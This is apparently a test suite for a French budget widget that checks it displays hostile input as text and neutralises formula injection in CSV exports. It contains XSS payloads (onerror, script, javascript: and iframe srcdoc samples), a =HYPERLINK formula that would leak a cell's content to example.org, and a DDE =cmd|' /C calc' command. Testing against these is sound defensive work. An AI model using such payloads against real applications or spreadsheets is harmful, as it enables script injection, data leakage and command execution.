// Hostile text in every field the user or a file can fill: it is shown as
// text and runs nothing. The CSV export neutralises formula injection.
//
// These tests run WITHOUT the Content-Security-Policy (the server of this file
// sends none): the policy would block an injected inline handler anyway and
// hide a widget that wrote user text as HTML. Here such a widget would run the
// payloads, and the control test shows that the checks then catch it.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { deflateRawSync } from 'node:zlib';
import { after, before, test } from 'node:test';
import { actionsTable, eur, grandTotal, start, totalsTable as totals, WORKING_COPY } from './helpers.mjs';

let env;
before(async () => {
  env = await start({ headers: { 'content-security-policy': null } });
});
after(async () => {
  await env?.close();
});

// Each payload, if it ran, sets window.__pwned (or opens a dialog, or asks the
// server for /x…).
const P = {
  img: `<img src=x onerror="window.__pwned='img'">`,
  script: `Titre"><script>window.__pwned='script'</script>`,
  js: `javascript:window.__pwned='js'`,
  svg: `<svg onload="window.__pwned='svg'"><script>window.__pwned='svg2'</script></svg>`,
  link: `<a href="javascript:window.__pwned='a'">lien</a>`,
  alert: `<img src=y onerror="alert('pwned')">`,
  iframe: `<iframe srcdoc="<script>parent.__pwned='iframe'</script>"></iframe>`,
  amount: `3 OOO <img src=z onerror="window.__pwned='amount'">`,
};

/** A fresh page of the widget that records dialogs, requests and problems. */
async function openPage(url = env.url, prepare = async () => {}) {
  const context = await env.browser.newContext();
  await prepare(context);
  const page = await context.newPage();
  page.dialogs = [];
  page.requests = [];
  page.problems = [];
  page.on('dialog', (d) => {
    page.dialogs.push(d.message());
    d.dismiss().catch(() => {});
  });
  page.on('request', (r) => page.requests.push(new URL(r.url()).pathname));
  page.on('pageerror', (e) => page.problems.push(`exception: ${e.message}`));
  await page.goto(url);
  await page.getByRole('heading', { level: 1 }).waitFor();
  return page;
}

/** Nothing of a payload became markup, ran, opened a dialog or asked the server for its images. */
async function assertNothingRan(page) {
  await page.waitForTimeout(300); // time for an injected image to fail and fire onerror
  const dom = await page.evaluate(() => ({
    pwned: window.__pwned,
    // The widget's own charts are SVG drawn by the widget (they carry its
    // classes); a payload's <svg> would have none.
    elements: document.querySelectorAll('img, svg:not([class^="bw-"]), iframe, object, embed').length,
    inlineScripts: [...document.scripts].filter((s) => !s.src).length,
    javascriptLinks: [...document.querySelectorAll('a[href]')].filter((a) => /^\s*javascript:/i.test(a.getAttribute('href'))).length,
    handlers: [...document.querySelectorAll('*')].flatMap((el) =>
      [...el.attributes].filter((a) => a.name.startsWith('on')).map((a) => `${el.tagName} ${a.name}`),
    ),
  }));
  assert.deepEqual(dom, { pwned: undefined, elements: 0, inlineScripts: 0, javascriptLinks: 0, handlers: [] });
  assert.deepEqual(page.dialogs, []);
  assert.deepEqual(page.requests.filter((p) => ['/x', '/y', '/z'].includes(p)), []);
  assert.deepEqual(page.problems, []);
}

/** `text` is on the page as text, in an element whose whole text it is (or contains, when `partial`). */
async function assertShown(scope, text, partial = false) {
  await scope.getByText(text, { exact: !partial }).first().waitFor();
}

// A saved convention with a payload in every text it holds: its title, an other
// funder's name, a group's name, an action's number, title and comments, and a
// declared subtotal's label (999 declared for 100 + 100 + 50 = 250: reported).
const hostileSaved = JSON.stringify({
  version: 1,
  title: P.iframe,
  departement: P.js,
  funders: [
    { kind: 'state', name: 'État' },
    { kind: 'departement', name: 'Département' },
    { kind: 'other', name: P.img },
  ],
  groups: [{ kind: 'axe', name: P.svg }],
  actions: [
    {
      number: '7',
      title: P.script,
      group: 0,
      comments: P.link,
      planned: [
        { funder: 0, part: 'base', value: '100' },
        { funder: 1, part: 'base', value: '100' },
        { funder: 2, part: 'base', value: '50' },
      ],
    },
  ],
  declared: [{ scope: { kind: 'group', id: 0 }, measure: { kind: 'planned_total' }, value: '999', label: P.alert }],
});

/** The saved convention above, as the widget shows it. */
async function assertHostileSavedShown(page) {
  // 100 + 100 + 50 = 250. (An imported file is read once the JSON reader,
  // fetched apart from the first load, is there: wait for the figures.)
  await page.getByRole('status').filter({ hasText: eur('250,00') }).waitFor();
  assert.equal(await grandTotal(page), eur('250,00'));
  await assertShown(actionsTable(page), P.script);
  await assertShown(totals(page), P.img);
  await assertShown(actionsTable(page), P.svg, true);
  await page.getByRole('tab', { name: 'Vérifications' }).click();
  await assertShown(page.getByRole('region', { name: /Vérifications/ }), P.alert, true);
  await assertNothingRan(page);
}

test('control: without the policy, the same payloads written as HTML do run and are caught', async () => {
  const page = await openPage();
  await page.evaluate((html) => {
    const div = document.createElement('div');
    div.innerHTML = html;
    document.body.append(div);
  }, P.img);
  await page.waitForFunction(() => window.__pwned === 'img');
  await assert.rejects(assertNothingRan(page));
  await page.context().close();
});

test('payloads in pasted cells (titles, groups, comments, headers, amounts) are shown as text', async () => {
  const page = await openPage();
  const table = [
    ['N°', 'Intitulé', 'Axe', 'Etat', 'CD', 'Commentaires', P.iframe],
    ['1', P.img, P.svg, '100', '50', P.link, 'a'],
    ['2', P.script, '', '200', '100', P.js, 'b'],
    ['3', P.alert, '', P.amount, '10', '', 'c'],
  ]
    .map((r) => r.join('\t'))
    .join('\n');
  await page.getByLabel(/Tableau à coller/).fill(table);
  // État 100 + 200 = 300 (row 3's amount is unreadable, shown), CD 50 + 100 + 10 = 160: 460.
  await page.getByRole('status').filter({ hasText: eur('460,00') }).waitFor();
  const actions = actionsTable(page);
  for (const title of [P.img, P.script, P.alert]) await assertShown(actions, title);
  await assertShown(actions, P.svg, true);
  // The unknown column's heading, in the reading preview; the unreadable amount, in the alert.
  await assertShown(page.getByRole('region', { name: 'Lecture du tableau' }), P.iframe);
  await assertShown(page.getByRole('alert'), P.amount, true);
  await assertNothingRan(page);
  // Rendered again in English, then confirmed: still text.
  await page.getByRole('button', { name: 'English' }).click();
  await page.getByRole('button', { name: 'Français' }).click();
  await page.getByRole('button', { name: 'Valider la lecture' }).click();
  await assertShown(actions, P.script);
  await assertNothingRan(page);
  await page.context().close();
});

test('payloads in an imported .csv file are shown as text', async () => {
  const page = await openPage();
  const quote = (cell) => `"${cell.replaceAll('"', '""')}"`;
  const csv = [
    ['N°', 'Intitulé', 'Axe', 'Etat', 'CD', 'Commentaires'],
    ['1', P.img, P.svg, '100', '50', P.link],
    ['2', P.script, '', '200', '100', P.alert],
  ]
    .map((r) => r.map(quote).join(';'))
    .join('\r\n');
  await page.getByLabel('Ouvrir un fichier').setInputFiles({ name: 'hostile.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
  // 100 + 50 + 200 + 100 = 450.
  await page.getByRole('status').filter({ hasText: eur('450,00') }).waitFor();
  const actions = actionsTable(page);
  await assertShown(actions, P.img);
  await assertShown(actions, P.script);
  await assertShown(actions, P.svg, true);
  await assertNothingRan(page);
  await page.context().close();
});

test('payloads in an imported .json convention (title, funder, group, action, label) are shown as text', async () => {
  const page = await openPage();
  await page.getByLabel('Ouvrir un fichier').setInputFiles({
    name: `${P.img}.json`,
    mimeType: 'application/json',
    buffer: Buffer.from(hostileSaved),
  });
  await assertHostileSavedShown(page);
  // The title only names the exported files: no markup in the file name.
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: /Enregistrer la convention/ }).click();
  assert.match((await download).suggestedFilename(), /^[a-z0-9-]+\.json$/);
  await page.context().close();
});

test('payloads in the convention saved in the browser are shown as text', async () => {
  const page = await openPage();
  await page.evaluate(([key, text]) => localStorage.setItem(key, text), [WORKING_COPY, hostileSaved]);
  await page.reload();
  await page.getByRole('heading', { level: 1 }).waitFor();
  await assertHostileSavedShown(page);
  await page.context().close();
});

test('script mount: payloads in data-title and in the data-convention file are shown as text', async () => {
  const attribute = (text) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
  const host = `<!doctype html><html lang="fr"><head><meta charset="utf-8"><title>Hôte</title></head><body>
    <div data-budget-widget data-title="${attribute(P.img)}" data-convention="hostile.json"></div>
    <script type="module" src="../embed.js"></script></body></html>`;
  const page = await openPage(`${env.url}examples/hostile-host.html`, async (context) => {
    await context.route('**/examples/hostile-host.html', (route) =>
      route.fulfill({ contentType: 'text/html; charset=utf-8', body: host }),
    );
    await context.route('**/examples/hostile.json', (route) =>
      route.fulfill({ contentType: 'application/json', body: hostileSaved }),
    );
  });
  assert.equal(await page.getByRole('heading', { level: 1 }).textContent(), P.img);
  await totals(page).waitFor();
  await assertHostileSavedShown(page);
  await page.context().close();
});

test('payloads in a share link are shown as text', async () => {
  // The link the widget makes: the saved JSON, raw deflate, base64url (see
  // src/share.rs), here made by Node's zlib from the hostile convention.
  const data = deflateRawSync(Buffer.from(hostileSaved, 'utf8')).toString('base64url');
  const page = await openPage(`${env.url}#c=${data}`);
  const offer = page.getByRole('alert').filter({ hasText: 'Ce lien contient une convention partagée' });
  await offer.getByRole('button', { name: 'Ouvrir comme nouvelle convention' }).click();
  await totals(page).waitFor();
  await assertHostileSavedShown(page);
  await page.context().close();
});

test('the CSV export neutralises formula injection in every text cell', async () => {
  const page = await openPage();
  const saved = JSON.stringify({
    version: 1,
    title: `=HYPERLINK("http://example.org/?d="&A1;"clic")`,
    funders: [
      { kind: 'state', name: 'État' },
      { kind: 'departement', name: 'Département' },
    ],
    groups: [{ kind: 'axe', name: `+SUM(1;2)` }],
    actions: [
      {
        number: '-1',
        title: `@SUM(A1:A9)`,
        group: 0,
        planned: [
          { funder: 0, part: 'base', value: '-12.50' },
          { funder: 1, part: 'base', value: '100' },
        ],
      },
      {
        number: '2',
        title: `\t=cmd|' /C calc'!A0`,
        group: 0,
        planned: [{ funder: 1, part: 'base', value: '10' }],
      },
    ],
  });
  await page.getByLabel('Ouvrir un fichier').setInputFiles({ name: 'formules.json', mimeType: 'application/json', buffer: Buffer.from(saved) });
  // −12,50 + 100 + 10 = 97,50.
  await page.getByRole('status').filter({ hasText: eur('97,50') }).waitFor();
  assert.equal(await grandTotal(page), eur('97,50'));
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: /Exporter pour Excel/ }).click();
  const text = readFileSync(await (await download).path(), 'utf8').replace(/^\ufeff/, '');
  const cells = parseCsv(text, ';').flat();
  // Every cell a spreadsheet would run as a formula is either a number (an
  // amount: −12,50 is written -12,50) or starts with the apostrophe.
  const dangerous = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(,\d+)?$/.test(c));
  assert.deepEqual(dangerous, []);
  for (const expected of [
    `'=HYPERLINK("http://example.org/?d="&A1;"clic")`,
    `'+SUM(1;2)`,
    `'@SUM(A1:A9)`,
    `'-1`,
  ]) {
    assert.ok(cells.includes(expected), `${expected} in\n${text}`);
  }
  assert.ok(cells.includes('-12,50'), 'amounts stay numbers');
  assert.ok(cells.some((c) => c.startsWith(`'`) && c.includes(`=cmd|' /C calc'!A0`)), text);
  await assertNothingRan(page);
  await page.context().close();
});

/** Cuts a CSV text (RFC 4180 quoting) into rows of cells. */
function parseCsv(text, delimiter) {
  const rows = [[]];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === delimiter) {
      rows.at(-1).push(cell);
      cell = '';
    } else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
      if (c === '\r') i++;
      rows.at(-1).push(cell);
      rows.push([]);
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || rows.at(-1).length > 0) rows.at(-1).push(cell);
  return rows;
}
